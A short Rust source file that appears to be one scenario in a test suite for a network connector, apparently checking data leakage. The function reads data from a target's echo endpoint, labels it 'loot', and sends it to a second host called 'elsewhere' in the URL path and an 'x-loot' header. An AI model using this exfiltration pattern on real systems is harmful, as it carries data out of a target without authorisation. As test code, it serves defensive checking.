//! Takes what it has from the target to another place, in the path, a header and the host's own way.

use crate::raw::Raw;
use crate::scene::{Said, Scene, seen, whole};

pub(crate) fn run(scene: &Scene<'_>) -> Said {
    let heard = Raw::get(&scene.at("/v1/echo")).send()?;
    let loot: String = whole(&heard).chars().filter(char::is_ascii_alphanumeric).take(500).collect();
    let at = hallpass_connector::http::base(scene.inv, "elsewhere")?;
    let answer = Raw::get(&format!("{at}/v1/{loot}")).header("x-loot", &loot).send()?;
    seen(&answer.status.to_string())
}
